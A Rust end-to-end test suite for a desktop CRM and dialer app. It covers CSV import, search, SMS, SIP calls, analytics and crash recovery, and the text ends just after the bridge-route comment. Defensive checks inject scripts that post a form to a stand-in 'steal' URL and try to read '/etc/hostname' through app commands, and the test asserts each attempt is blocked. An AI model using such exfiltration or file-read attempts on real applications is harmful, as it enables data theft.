//! End to end: the real Ringdesk window under Xvfb, driven over WebDriver (tauri-driver +
//! WebKitWebDriver). Imports a CSV with good and bad rows, sees the bad rows reported, searches,
//! opens a lead, edits a field, restarts the app and finds the edit persisted, and checks the
//! dialer's disabled Dial button. Then texting: SignalWire set up in Settings (the token to the
//! keychain), a text sent from a lead, and the lead's reply arriving live in the same thread
//! (SignalWire served by the emulator in crates/testkit). Screenshots of each step go to
//! `artifacts/e2e/`. A second test runs the agent's call workflow over real SIP peers and the
//! bridge route (see its doc); its screenshots go to `artifacts/e2e-calls/`. A third works a
//! power-dialer campaign (`artifacts/e2e-campaign/`). They run one at a time.
//!
//! The test starts everything it needs itself: Xvfb on a free display, a private D-Bus session
//! with an unlocked throwaway gnome-keyring, and tauri-driver on free ports, all with XDG folders
//! in a temp dir and `RINGDESK_DB` pointing at a temp database. It fails (never skips) when a
//! component is missing; `scripts/test.sh` installs them.

mod harness;

use std::path::Path;
use std::time::Duration;

use fantoccini::{Client, key::Key};
use harness::{
    Desktop, click, element, eventually, phone_ready, save_sip_password, seed_ann_and_sip_line, shown, text, tid,
    type_into, with_db,
};

const CSV: &str = "Name,Email,Phone,Company,Status\n\
Ann Archer,ann@acme.com,(202) 555-0143,Acme,new\n\
Bob Broken,bob-at-nowhere,202-555-0144,Globex,new\n\
Carol Chen,carol@initech.com,+44 20 7946 0958,Initech,qualified\n\
Dan Nophone,,,Hooli,new\n\
Erin Early,erin@vandelay.com,202.555.0145,Vandelay,contacted\n";

const SW_PROJECT: &str = "3f1c2b4a-9d8e-4f70-a1b2-c3d4e5f60789";
const SW_TOKEN: &str = "PTe2etoken";
const SW_NUMBER: &str = "+12175550100";

/// The text of every message bubble in the open conversation, oldest first.
async fn bubble_texts(c: &Client) -> Vec<String> {
    let mut out = Vec::new();
    for el in c.find_all(tid("sms-message")).await.unwrap_or_default() {
        out.push(el.prop("textContent").await.ok().flatten().unwrap_or_default());
    }
    out
}

/// The full text of every rendered lead row (`textContent`: cells cut off with an ellipsis on
/// screen are still whole here).
async fn row_names(c: &Client) -> Vec<String> {
    let mut out = Vec::new();
    for el in c.find_all(tid("lead-row")).await.unwrap_or_default() {
        out.push(el.prop("textContent").await.ok().flatten().unwrap_or_default());
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn import_search_edit_restart_and_text_in_the_real_window() {
    let _one_at_a_time = SERIAL.lock().await;
    let emu = ringdesk_testkit::signalwire::SignalWireEmulator::start(SW_PROJECT, SW_TOKEN).await.expect("emulator");
    emu.own_number(SW_NUMBER);
    let desktop = Desktop::start_with("e2e", &[("RINGDESK_SIGNALWIRE_URL", &emu.origin())]);
    let csv_path = desktop.dir().join("spring-leads.csv");
    std::fs::write(&csv_path, CSV).expect("write csv");

    // --- first run: import, search, edit ---
    let c = desktop.launch().await;
    eprintln!("e2e: launched");
    assert_eq!(text(&c, "lead-count").await.trim(), "0", "a fresh database has no leads");
    let web = desktop.web_process_environments();
    assert!(!web.is_empty(), "the app's WebKit web process is found by its database path");
    assert!(
        web.iter().all(|vars| vars.iter().any(|v| v == "JSC_useJIT=false")),
        "the web process runs its JavaScript without the JIT (~17 MiB at idle)"
    );
    desktop.screenshot(&c, "01-empty").await;

    // A script in the window cannot post a form anywhere (CSP form-action 'none'): the submit is
    // blocked and reported, and the window stays on the app.
    c.execute(
        "window.__formBlocked = null;
         document.addEventListener('securitypolicyviolation', e => {
           if ((e.effectiveDirective || e.violatedDirective || '').startsWith('form-action')) window.__formBlocked = e.blockedURI || 'blocked';
         });
         const f = document.createElement('form');
         f.method = 'post'; f.action = 'https://example.com/steal';
         document.body.appendChild(f); f.submit(); f.remove(); return true;",
        vec![],
    )
    .await
    .expect("a script runs in the window");
    eventually(&desktop, &c, "the form post is blocked by the CSP", || async {
        c.execute("return window.__formBlocked;", vec![]).await.ok().is_some_and(|v| !v.is_null())
    })
    .await;
    assert_eq!(text(&c, "lead-count").await.trim(), "0", "still the app, not a posted page");

    // A script in the window can neither import a file the agent did not choose nor open a file
    // dialog of its own: the shell refuses the path, and the dialog plugin is not granted.
    let made_up = c
        .execute_async(
            "const done = arguments[arguments.length - 1];
             const request = { path: '/etc/hostname', mapping: ['name'], target: { kind: 'none' } };
             window.__TAURI_INTERNALS__.invoke('import_leads', { request })
               .then(() => done('imported'), e => done('refused: ' + JSON.stringify(e)));",
            vec![],
        )
        .await
        .expect("the invoke settles");
    let made_up = made_up.as_str().unwrap_or_default().to_string();
    assert!(made_up.contains("/etc/hostname was not"), "a path the window made up is refused: {made_up}");
    let own_dialog = c
        .execute_async(
            "const done = arguments[arguments.length - 1];
             window.__TAURI_INTERNALS__.invoke('plugin:dialog|open', { options: {} })
               .then(() => done('opened'), e => done('refused: ' + e));",
            vec![],
        )
        .await
        .expect("the invoke settles");
    assert!(
        own_dialog.as_str().is_some_and(|s| s.starts_with("refused") && s.contains("not allowed")),
        "the window may not open a file dialog itself: {own_dialog}"
    );
    let unknown = c
        .execute_async(
            "const done = arguments[arguments.length - 1];
             window.__TAURI_INTERNALS__.invoke('preview_import', { path: '/etc/hostname' })
               .then(() => done('previewed'), e => done('refused: ' + e));",
            vec![],
        )
        .await
        .expect("the invoke settles");
    assert!(
        unknown.as_str().is_some_and(|s| s.starts_with("refused")),
        "no command reads a path from the window: {unknown}"
    );

    desktop.answer_file_dialogs(&csv_path);
    click(&c, "import-button").await;
    click(&c, "import-choose").await;
    c.wait().for_element(tid("import-mapping-0")).await.expect("mapping shown after preview");
    desktop.screenshot(&c, "02-import-mapping").await;
    click(&c, "import-target-new").await;
    click(&c, "import-start").await;
    assert_eq!(text(&c, "import-created").await.trim(), "3", "three good rows created");
    assert_eq!(text(&c, "import-invalid-count").await.trim(), "2", "two bad rows reported");
    let bad = c.find_all(tid("import-invalid-row")).await.expect("invalid rows listed");
    let mut bad_text = Vec::new();
    for row in &bad {
        bad_text.push(row.text().await.expect("row text"));
    }
    assert!(
        bad_text[0].contains('3') && bad_text[0].contains("bob-at-nowhere"),
        "line 3 names the bad email: {bad_text:?}"
    );
    assert!(
        bad_text[1].contains('5') && bad_text[1].contains("no phone number or email"),
        "line 5 says why: {bad_text:?}"
    );
    desktop.screenshot(&c, "03-import-report").await;
    click(&c, "import-close").await;

    eventually(&desktop, &c, "the table shows the three leads", || async { row_names(&c).await.len() == 3 }).await;
    assert_eq!(text(&c, "lead-count").await.trim(), "3", "the count follows the import");

    type_into(&c, "lead-search", "archer").await;
    eventually(&desktop, &c, "search narrows to Ann", || async {
        let rows = row_names(&c).await;
        rows.len() == 1 && rows[0].contains("Ann Archer")
    })
    .await;
    type_into(&c, "lead-search", "7946").await;
    eventually(&desktop, &c, "phone digits find Carol", || async {
        let rows = row_names(&c).await;
        rows.len() == 1 && rows[0].contains("Carol Chen")
    })
    .await;
    desktop.screenshot(&c, "04-search").await;

    c.find(tid("lead-row")).await.expect("Carol's row").click().await.expect("open Carol");
    c.wait().for_element(tid("lead-detail")).await.expect("detail panel opens");
    // The fields render once the lead has loaded.
    let company =
        c.wait().at_most(Duration::from_secs(15)).for_element(tid("lead-field-company")).await.expect("company field");
    // Emptied with the keyboard only, as a person would. WebDriver's clear() sets the DOM value
    // behind React's back: the field then reads empty while React still holds "Initech", the
    // select-all and Backspace that follow find nothing to delete, and React's next render puts
    // "Initech" back in front of what is typed (runs saved "InitechUmbrella Corp").
    for _ in 0..40 {
        company.send_keys(&format!("{}a{}{}", Key::Control, Key::Null, Key::Backspace)).await.expect("empty");
        if company.prop("value").await.ok().flatten().unwrap_or_default().is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    company.send_keys("Umbrella Corp").await.expect("type");
    eventually(&desktop, &c, "the field holds the new company only", || async {
        company.prop("value").await.ok().flatten().as_deref() == Some("Umbrella Corp")
    })
    .await;
    company.send_keys(&Key::Enter.to_string()).await.expect("save");
    eventually(&desktop, &c, "the row shows the new company", || async {
        row_names(&c).await.first().is_some_and(|r| r.contains("Umbrella Corp") && !r.contains("Initech"))
    })
    .await;
    desktop.screenshot(&c, "05-edited").await;
    desktop.quit(c).await;

    // --- second run: the edit is still there ---
    let c = desktop.launch().await;
    eventually(&desktop, &c, "the restarted app shows three leads", || async {
        text(&c, "lead-count").await.trim() == "3"
    })
    .await;
    type_into(&c, "lead-search", "umbrella").await;
    eventually(&desktop, &c, "the edited company is searchable after restart", || async {
        let rows = row_names(&c).await;
        rows.len() == 1 && rows[0].contains("Carol Chen")
    })
    .await;
    c.find(tid("lead-row")).await.expect("row").click().await.expect("open");
    let value = c
        .wait()
        .for_element(tid("lead-field-company"))
        .await
        .expect("company field")
        .prop("value")
        .await
        .expect("value readable");
    assert_eq!(value.as_deref(), Some("Umbrella Corp"), "the edit persisted across a restart");
    desktop.screenshot(&c, "06-after-restart").await;

    // --- dialer: a pasted number is normalized and matched; Dial is disabled with its reason ---
    click(&c, "nav-dialer").await;
    type_into(&c, "dialer-input", "+1 (202) 555-0145").await;
    eventually(&desktop, &c, "the dialer matches Erin", || async {
        text(&c, "dialer-lead").await.contains("Erin Early")
    })
    .await;
    let dial = c.find(tid("dial-button")).await.expect("dial button");
    assert!(dial.attr("disabled").await.expect("attr").is_some(), "Dial is disabled without a phone line");
    assert!(!text(&c, "dial-disabled-reason").await.trim().is_empty(), "the reason is shown");
    desktop.screenshot(&c, "07-dialer").await;
    desktop.root_screenshot("08-desktop");

    // --- texting: set up SignalWire, text Ann from her lead, her reply arrives in the thread ---
    click(&c, "nav-settings").await;
    type_into(&c, "settings-sw-space", "example").await;
    type_into(&c, "settings-sw-project", SW_PROJECT).await;
    type_into(&c, "settings-sw-token", SW_TOKEN).await;
    click(&c, "settings-sw-save").await;
    c.wait().at_most(Duration::from_secs(15)).for_element(tid("settings-sw-saved")).await.expect("saved");
    click(&c, "nav-leads").await;
    type_into(&c, "lead-search", "archer").await;
    eventually(&desktop, &c, "Ann is listed", || async {
        let rows = row_names(&c).await;
        rows.len() == 1 && rows[0].contains("Ann Archer")
    })
    .await;
    c.find(tid("lead-row")).await.expect("Ann's row").click().await.expect("open Ann");
    click(&c, "lead-text").await;
    let to = c.wait().at_most(Duration::from_secs(15)).for_element(tid("sms-to")).await.expect("new message to Ann");
    assert_eq!(to.prop("value").await.expect("value").as_deref(), Some("+12025550143"), "addressed to Ann");
    type_into(&c, "sms-draft", "Hi Ann, following up on our call").await;
    click(&c, "sms-send").await;
    eventually(&desktop, &c, "the text is in Ann's conversation", || async {
        text(&c, "sms-conversation-name").await.contains("Ann Archer")
            && bubble_texts(&c).await.iter().any(|b| b.contains("following up"))
    })
    .await;
    assert_eq!(emu.sent_messages().len(), 1, "SignalWire got exactly one text");
    emu.receive_message("+12025550143", SW_NUMBER, "Sounds good, call me at 3");
    eventually(&desktop, &c, "Ann's reply arrives live in the same thread", || async {
        let b = bubble_texts(&c).await;
        b.len() == 2 && b[0].contains("following up") && b[1].contains("call me at 3")
    })
    .await;
    desktop.screenshot(&c, "08b-texting").await;
    desktop.quit(c).await;

    // --- a damaged database file: a blocking dialog, and the file is left byte for byte ---
    let junk = desktop.dir().join("damaged.db");
    let bytes: Vec<u8> = (0..8192u32).map(|i| (i * 7 % 251) as u8).collect();
    std::fs::write(&junk, &bytes).expect("write junk database");
    let c = desktop.launch_with_args(&["--db", junk.to_str().expect("utf-8 path")]).await;
    let dialog = text(&c, "startup-error").await;
    assert!(dialog.contains("damaged"), "the dialog names the problem: {dialog}");
    assert!(dialog.contains("left untouched"), "the dialog says the file was not changed: {dialog}");
    assert!(c.find(tid("nav-leads")).await.is_err(), "no navigation behind the dialog");
    desktop.screenshot(&c, "09-damaged-database").await;
    desktop.quit(c).await;
    assert_eq!(std::fs::read(&junk).expect("junk readable"), bytes, "the damaged file is untouched");
}

/// One end-to-end suite at a time: each starts its own X server, app and SIP peers, and the
/// machine has two cores.
static SERIAL: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

/// The `.deb` the Tauri bundler made (`scripts/test.sh` runs `tauri build --debug --bundles deb`
/// before the tests), installed into a private root the way dpkg installs it: the files
/// unpacked, then the desktop database refreshed as dpkg's trigger does. Its dependencies must
/// be installed on this machine. `None` (the check is skipped) only outside CI when no bundle was
/// made; in CI a missing bundle fails the test.
struct UnpackedDeb {
    root: std::path::PathBuf,
}

fn unpacked_deb(desktop: &Desktop) -> Option<UnpackedDeb> {
    use std::process::Command;
    let bundles = std::path::Path::new(env!("CARGO_BIN_EXE_ringdesk")).with_file_name("bundle").join("deb");
    let name = format!("Ringdesk_{}_amd64.deb", env!("CARGO_PKG_VERSION"));
    let deb = bundles.join(&name);
    if !deb.is_file() {
        assert!(
            std::env::var("CI").is_err(),
            "{name} is not in {}: scripts/test.sh bundles it before the tests",
            bundles.display()
        );
        eprintln!(
            "e2e: no {name} in {} (run scripts/test.sh); the installed-entry check is skipped",
            bundles.display()
        );
        return None;
    }
    let field = |f: &str| {
        let out = Command::new("dpkg-deb").args(["-f"]).arg(&deb).arg(f).output().expect("dpkg-deb runs");
        assert!(out.status.success(), "dpkg-deb reads the {f} field of {name}");
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    assert_eq!(field("Version"), env!("CARGO_PKG_VERSION"), "the bundle is of this version");
    for dependency in field("Depends").split(',') {
        let installed = dependency.split('|').any(|alternative| {
            let package = alternative.split_whitespace().next().unwrap_or_default();
            Command::new("dpkg-query")
                .args(["-W", "-f", "${Status}", package])
                .output()
                .is_ok_and(|o| String::from_utf8_lossy(&o.stdout).contains("install ok installed"))
        });
        assert!(installed, "the package's dependency {} is installed here", dependency.trim());
    }
    let root = desktop.dir().join("installed");
    let unpacked = Command::new("dpkg-deb").arg("-x").arg(&deb).arg(&root).status().expect("dpkg-deb runs");
    assert!(unpacked.success(), "{name} unpacks");
    let entry = std::fs::read_to_string(root.join("usr/share/applications/Ringdesk.desktop"))
        .expect("the package has usr/share/applications/Ringdesk.desktop");
    assert!(entry.lines().any(|l| l == "Exec=ringdesk %u"), "the entry passes the link to Ringdesk: {entry}");
    assert!(
        entry.lines().any(|l| l.starts_with("MimeType=")
            && l.contains("x-scheme-handler/tel;")
            && l.contains("x-scheme-handler/ringdesk;")),
        "the entry claims tel: and ringdesk: links: {entry}"
    );
    let refreshed = Command::new("update-desktop-database")
        .arg(root.join("usr/share/applications"))
        .status()
        .expect("update-desktop-database runs");
    assert!(refreshed.success(), "the desktop database of the installed entry is written");
    Some(UnpackedDeb { root })
}

impl UnpackedDeb {
    /// `xdg-open LINK` as on a desktop with this package installed and nothing else claiming the
    /// link: the data folders are the package's and the system's, the user's own folders (where
    /// the running app registered itself at start) are empty ones, and no desktop environment is
    /// named, so xdg-open uses its generic lookup (xdg-mime, then the entry's Exec).
    fn xdg_open(&self, desktop: &Desktop, link: &str) -> std::process::Command {
        let user = self.root.with_file_name("installed-user");
        for sub in ["data", "config"] {
            std::fs::create_dir_all(user.join(sub)).expect("empty user folders");
        }
        let mut cmd = desktop.command("xdg-open");
        let path = std::env::var("PATH").unwrap_or_default();
        cmd.arg(link)
            .env("PATH", format!("{}:{path}", self.root.join("usr/bin").display()))
            .env("XDG_DATA_DIRS", format!("{}:/usr/local/share:/usr/share", self.root.join("usr/share").display()))
            .env("XDG_DATA_HOME", user.join("data"))
            .env("XDG_CONFIG_HOME", user.join("config"))
            .env_remove("XDG_CURRENT_DESKTOP")
            .env_remove("DESKTOP_SESSION")
            .env_remove("KDE_FULL_SESSION")
            .env_remove("GNOME_DESKTOP_SESSION_ID");
        cmd
    }
}

/// Waits for an element and returns its `value` property (inputs).
async fn value_of(c: &Client, id: &str) -> String {
    element(c, id).await.prop("value").await.unwrap_or_else(|e| panic!("value of {id}: {e}")).unwrap_or_default()
}

/// The wrap-up step for the call on screen: an outcome, a note, and a follow-up tomorrow.
async fn wrap_up(desktop: &Desktop, c: &Client, outcome: &str, note: &str, shot: &str) {
    c.wait().at_most(Duration::from_secs(20)).for_element(tid("wrapup-dialog")).await.expect("the wrap-up step opens");
    click(c, &format!("wrapup-choice-{outcome}")).await;
    type_into(c, "wrapup-notes", note).await;
    c.find(tid("wrapup-next-action"))
        .await
        .expect("next action")
        .select_by_value("callBack")
        .await
        .expect("call back chosen");
    click(c, "wrapup-pick-0").await; // Tomorrow 9:00
    desktop.screenshot(c, shot).await;
    click(c, "wrapup-save").await;
    eventually(desktop, c, "the wrap-up step closes after saving", || async { !shown(c, "wrapup-dialog").await }).await;
}

/// The agent's day in the real window, over real SIP peers (Kamailio with digest auth; the lead's
/// phone is baresip, registered as the lead's number and answering by itself) and the SignalWire
/// emulator: a lead called from its row (the INVITE reaches the lead's phone, audio flows; the
/// speaker switched in the call panel moves the call's playback to a new stream at once), hung
/// up, wrapped up as Interested with a note and a follow-up tomorrow; the history, the lead and
/// the follow-ups show it. A `tel:` link opened with `gio open` while the app runs fills the
/// dialer and selects the lead without placing a call; so does a `ringdesk://` link opened with
/// `xdg-open` through the entry of the installed `.deb` (see `unpacked_deb`). The lead calls back: the screen pop
/// names them, the call is answered and hung up, and the app is killed (SIGKILL) during the
/// wrap-up, which is there again after a restart. Then the same call over the bridge route.
/// Screenshots of each step go to `artifacts/e2e-calls/`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_call_workflow_in_the_real_window_over_sip_and_the_bridge() {
    let _one_at_a_time = SERIAL.lock().await;
    use ringdesk_testkit::{AnswerMode, Baresip, Kamailio, PulseAudio, speech_wav};
    let kam = Kamailio::start().expect("kamailio");
    let pulse = PulseAudio::start().expect("pulseaudio with a null sink for the app's audio devices");
    let emu = ringdesk_testkit::signalwire::SignalWireEmulator::start(SW_PROJECT, SW_TOKEN).await.expect("emulator");
    emu.own_number(SW_NUMBER);
    let desktop = Desktop::start_with(
        "e2e-calls",
        &[("RINGDESK_SIGNALWIRE_URL", &emu.origin()), ("PULSE_SERVER", &pulse.server())],
    );
    // Owns org.freedesktop.Notifications on the desktop's bus before the app starts, and records
    // what the app shows.
    let notifications = ringdesk_testkit::notifications::NotificationServer::start(&desktop.bus_address())
        .expect("a notification server on the desktop's bus");
    let wav = desktop.dir().join("speech.wav");
    speech_wav(&wav, 60).expect("speech for the lead's phone");
    let mut ann_phone =
        Baresip::start("13125550142", &kam.addr(), &wav, AnswerMode::Auto, false).expect("the lead's phone");
    ann_phone.wait_registered(Duration::from_secs(5)).expect("the lead's phone registers");

    // The database as the agent left it: a lead, the SIP line and SignalWire (the secrets go in
    // through the window, into the keychain).
    let db = desktop.dir().join("ringdesk.db");
    seed_ann_and_sip_line(
        &db,
        kam.addr(),
        ringdesk_app::ipc::SettingsUpdate {
            signalwire_space: Some("example".into()),
            signalwire_project_id: Some(SW_PROJECT.into()),
            ..Default::default()
        },
    );
    let db_arg = db.to_str().expect("utf-8 path").to_string();
    let c = desktop.launch_with_args(&["--db", &db_arg]).await;

    // --- Settings: the SIP password and the SignalWire token, to the keychain ---
    save_sip_password(&c, "alicepw").await;
    type_into(&c, "settings-sw-token", SW_TOKEN).await;
    click(&c, "settings-sw-save").await;
    element(&c, "settings-sw-saved").await;
    eventually(&desktop, &c, "the phone line registers", || async { phone_ready(&c).await }).await;
    desktop.screenshot(&c, "01-phone-ready").await;

    // --- a click on the lead's phone button: the call reaches the lead's phone, audio flows ---
    click(&c, "nav-leads").await;
    eventually(&desktop, &c, "Ann is listed", || async {
        row_names(&c).await.iter().any(|r| r.contains("Ann Archer"))
    })
    .await;
    click(&c, "lead-call").await;
    ann_phone.wait_event("CALL_ESTABLISHED", Duration::from_secs(15)).expect("the lead's phone answered");
    eventually(&desktop, &c, "the call panel shows the connected call", || async {
        text(&c, "call-phase").await.to_lowercase().contains("connected")
            || text(&c, "call-timer").await.contains("0:0")
    })
    .await;
    assert!(text(&c, "call-lead-name").await.contains("Ann Archer"), "the lead's card is in the call panel");
    tokio::time::sleep(Duration::from_millis(2500)).await;
    desktop.screenshot(&c, "02-in-call").await;

    // --- the speaker switched in the call panel: the app's playback stream is reopened at once,
    // its microphone stream stays ---
    let streams = |kind: &str| {
        let out = std::process::Command::new("pactl")
            .args(["-s", &pulse.server(), "list", "short", kind])
            .output()
            .expect("pactl runs");
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .filter_map(|l| l.split('\t').next().map(str::to_string))
            .collect::<Vec<_>>()
    };
    let (playing, recording) = (streams("sink-inputs"), streams("source-outputs"));
    assert_eq!((playing.len(), recording.len()), (1, 1), "the call plays and records through PulseAudio");
    click(&c, "call-audio").await;
    // The picker is enabled once the devices are listed.
    eventually(&desktop, &c, "the speaker picker lists the pulse device", || async {
        match c.find(fantoccini::Locator::Css("[data-testid=call-audio-output] option[value=pulse]")).await {
            Ok(_) => {
                c.find(tid("call-audio-output")).await.expect("picker").attr("disabled").await.ok().flatten().is_none()
            }
            Err(_) => false,
        }
    })
    .await;
    c.find(tid("call-audio-output"))
        .await
        .expect("the speaker picker")
        .select_by_value("pulse")
        .await
        .expect("the pulse device chosen");
    eventually(&desktop, &c, "the call panel says the speaker switched", || async {
        text(&c, "call-audio-status").await.contains("Switched")
    })
    .await;
    eventually(&desktop, &c, "the call plays through a new stream", || async {
        let now = streams("sink-inputs");
        now.len() == 1 && now != playing
    })
    .await;
    assert_eq!(streams("source-outputs"), recording, "the microphone's stream was left alone");
    desktop.screenshot(&c, "02b-speaker-switched").await;
    click(&c, "call-hangup").await;
    ann_phone.wait_event("CALL_CLOSED", Duration::from_secs(10)).expect("the lead's phone saw the hang-up");
    let heard = ann_phone.received_recordings();
    assert!(
        heard.first().and_then(|p| std::fs::metadata(p).ok()).is_some_and(|m| m.len() > 8_000),
        "the lead's phone decoded audio from the app: {heard:?}"
    );

    // --- wrap-up: Interested, a note, call back tomorrow ---
    wrap_up(&desktop, &c, "interested", "Wants a quote for 20 seats", "03-wrap-up").await;
    click(&c, "nav-history").await;
    eventually(&desktop, &c, "the history shows the call with its outcome and note", || async {
        let rows = c.find_all(tid("history-row")).await.unwrap_or_default();
        let mut found = false;
        for r in rows {
            let t = r.prop("textContent").await.ok().flatten().unwrap_or_default();
            found |= t.contains("Ann Archer")
                && t.contains("Interested")
                && t.contains("Wants a quote")
                && t.contains("0:0");
        }
        found
    })
    .await;
    desktop.screenshot(&c, "04-history").await;
    click(&c, "nav-followups").await;
    eventually(&desktop, &c, "the follow-up is listed", || async {
        let rows = c.find_all(tid("followup")).await.unwrap_or_default();
        let mut found = false;
        for r in rows {
            found |= r.prop("textContent").await.ok().flatten().unwrap_or_default().contains("Ann Archer");
        }
        found
    })
    .await;
    desktop.screenshot(&c, "05-follow-ups").await;

    // --- analytics: the call is counted, the charts draw on canvas, a chart saves as a PNG ---
    click(&c, "nav-analytics").await;
    eventually(&desktop, &c, "Analytics counts the outbound call", || async {
        shown(&c, "analytics-stat-Calls").await && text(&c, "analytics-stat-Calls").await.contains("1 out")
    })
    .await;
    eventually(&desktop, &c, "the volume chart painted", || async {
        c.execute("return document.querySelector('[data-testid=analytics-page]').dataset.painted || ''", vec![])
            .await
            .ok()
            .and_then(|v| v.as_str().map(|s| !s.is_empty()))
            .unwrap_or(false)
    })
    .await;
    // The pointer near the chart's right edge: the tooltip names the day and its counts, and it
    // opens to the left of the pointer, inside the chart.
    c.execute(
        "const over = document.querySelector('[data-testid=chart-call-volume] .u-over');
         const r = over.getBoundingClientRect();
         const at = { clientX: r.right - 4, clientY: r.top + r.height / 2, bubbles: true };
         over.dispatchEvent(new MouseEvent('mouseenter', at));
         over.dispatchEvent(new MouseEvent('mousemove', at));",
        vec![],
    )
    .await
    .expect("pointer over the volume chart");
    eventually(&desktop, &c, "the chart's tooltip shows inside the chart", || async {
        c.execute(
            "const tip = document.querySelector('[data-testid=analytics-card-call-volume] .chart-tip');
             if (!tip) return '';
             const t = tip.getBoundingClientRect();
             const chart = tip.closest('.chart').getBoundingClientRect();
             return t.right <= chart.right && t.left >= chart.left ? tip.textContent : 'outside';",
            vec![],
        )
        .await
        .ok()
        .and_then(|v| v.as_str().map(|s| s.contains("Answered: 1") && s.contains("Talk minutes")))
        .unwrap_or(false)
    })
    .await;
    desktop.screenshot(&c, "05b-analytics").await;
    let png = desktop.dir().join("call-volume.png");
    desktop.answer_file_dialogs(&png);
    click(&c, "analytics-png-call-volume").await;
    eventually(&desktop, &c, "the chart is saved as a PNG", || async {
        std::fs::read(&png).is_ok_and(|b| b.starts_with(b"\x89PNG\r\n\x1a\n") && b.len() > 2_000)
    })
    .await;
    // A filter change redraws: inbound calls only leaves nothing, and the page says why.
    c.find(tid("analytics-direction"))
        .await
        .expect("direction filter")
        .select_by_value("inbound")
        .await
        .expect("inbound");
    eventually(&desktop, &c, "the empty state for inbound calls", || async { shown(&c, "analytics-empty").await })
        .await;
    desktop.screenshot(&c, "05c-analytics-inbound-only").await;
    c.find(tid("analytics-direction")).await.expect("direction filter").select_by_value("").await.expect("both");
    eventually(&desktop, &c, "the call is back after the filter is cleared", || async {
        shown(&c, "analytics-stat-Calls").await && text(&c, "analytics-stat-Calls").await.contains("1 out")
    })
    .await;
    let csv = desktop.dir().join("contact-rate.csv");
    desktop.answer_file_dialogs(&csv);
    click(&c, "analytics-csv-contact-rate").await;
    eventually(&desktop, &c, "the contact rates are exported as CSV", || async {
        std::fs::read_to_string(&csv)
            .is_ok_and(|t| t.starts_with("outcome,dials,percent") && t.contains("answered,1,100.0"))
    })
    .await;
    let (status, last_contact) = with_db(&db, |check| {
        let page = check.list_leads(&ringdesk_app::ipc::LeadQuery { limit: 10, ..Default::default() }).expect("leads");
        let ann = page.rows.into_iter().find(|l| l.name == "Ann Archer").expect("Ann");
        (ann.status, ann.last_contact)
    });
    assert_eq!(status, "qualified", "Interested moved the lead on");
    assert!(last_contact.is_some(), "last contact set");

    // --- a tel: link from another application: the dialer is filled, nothing is dialled ---
    let logged_calls = || {
        with_db(&db, |reader| {
            reader
                .call_history(&ringdesk_app::ipc::HistoryFilter { limit: 100, ..Default::default() })
                .expect("history")
                .len()
        })
    };
    let calls_before = logged_calls();
    let opened = desktop.command("gio").args(["open", "tel:+1-312-555-0142"]).status().expect("gio runs");
    assert!(opened.success(), "gio opened the link with Ringdesk's handler");
    eventually(&desktop, &c, "the link filled the dialer and selected Ann", || async {
        shown(&c, "dialer-link-banner").await && text(&c, "dialer-lead").await.contains("Ann Archer")
    })
    .await;
    assert!(value_of(&c, "dialer-input").await.contains("555"), "the number is in the dialer");
    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert_eq!(logged_calls(), calls_before, "the link did not place a call");
    assert!(!shown(&c, "call-panel").await || !shown(&c, "call-hangup").await, "no call is running");
    desktop.screenshot(&c, "06-link-filled-dialer").await;

    // --- the same through the installed package's entry: xdg-open finds Ringdesk by the .deb's
    // MimeType and runs its `Exec=ringdesk %u`, which hands the link to the running window ---
    if let Some(package) = unpacked_deb(&desktop) {
        click(&c, "nav-leads").await;
        let opened = package
            .xdg_open(&desktop, "ringdesk://dial?to=%2B13125550177&name=Walk%20In")
            .status()
            .expect("xdg-open runs");
        assert!(opened.success(), "xdg-open found the installed entry and ran it: {opened}");
        eventually(&desktop, &c, "the link through the installed entry filled the dialer", || async {
            shown(&c, "dialer-link-banner").await && value_of(&c, "dialer-input").await.contains("0177")
        })
        .await;
        assert!(text(&c, "dialer-link-banner").await.contains("Walk In"), "the link's name is shown");
        assert_eq!(logged_calls(), calls_before, "the link through the package did not place a call");
        desktop.screenshot(&c, "06b-link-through-the-installed-entry").await;
    }

    // --- Ann calls back: the screen pop names her; answered; the app dies during the wrap-up ---
    ann_phone.command("dial", &format!("sip:alice@{}", kam.addr())).expect("Ann calls back");
    eventually(&desktop, &c, "the incoming call pops up with Ann's card", || async {
        shown(&c, "incoming-call").await && text(&c, "screen-pop").await.contains("Ann Archer")
    })
    .await;
    assert!(text(&c, "screen-pop").await.contains("Acme Rockets"), "with her company");
    let mut notes = Vec::new();
    for _ in 0..100 {
        notes = notifications.shown();
        if notes.iter().any(|n| n.summary.starts_with("Incoming call")) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let call_note = notes.iter().find(|n| n.summary.starts_with("Incoming call")).unwrap_or_else(|| {
        panic!("a desktop notification announces the call: {:?}", notes.iter().map(|n| &n.summary).collect::<Vec<_>>())
    });
    assert!(call_note.summary.contains("Ann Archer") && call_note.summary.contains("Acme Rockets"), "{call_note:?}");
    assert!(
        call_note.body.contains("qualified") && call_note.body.contains("Wants a quote"),
        "status and last note: {call_note:?}"
    );
    desktop.screenshot(&c, "07-screen-pop").await;
    click(&c, "incoming-answer").await;
    ann_phone.wait_event("CALL_ESTABLISHED", Duration::from_secs(10)).expect("answered");
    tokio::time::sleep(Duration::from_millis(1500)).await;
    ann_phone.command("hangup", "").expect("Ann hangs up");
    c.wait()
        .at_most(Duration::from_secs(20))
        .for_element(tid("wrapup-dialog"))
        .await
        .expect("wrap-up for the call back");
    desktop.screenshot(&c, "08-wrap-up-before-crash").await;
    desktop.kill_app(&db_arg);
    drop(c);
    let c = desktop.launch_with_args(&["--db", &db_arg]).await;
    c.wait()
        .at_most(Duration::from_secs(20))
        .for_element(tid("wrapup-dialog"))
        .await
        .expect("the wrap-up is back after the crash");
    assert!(text(&c, "wrapup-call-name").await.contains("Ann Archer"), "for Ann's call back");
    eventually(
        &desktop,
        &c,
        "the restarted app's line shows ready (registered before the window listened)",
        || async { phone_ready(&c).await },
    )
    .await;
    desktop.screenshot(&c, "09-wrap-up-after-restart").await;
    click(&c, "wrapup-choice-answered").await;
    click(&c, "wrapup-save").await;
    eventually(&desktop, &c, "the restored wrap-up is saved", || async { !shown(&c, "wrapup-dialog").await }).await;

    // --- the bridge route: SignalWire rings the agent's phone, then the lead ---
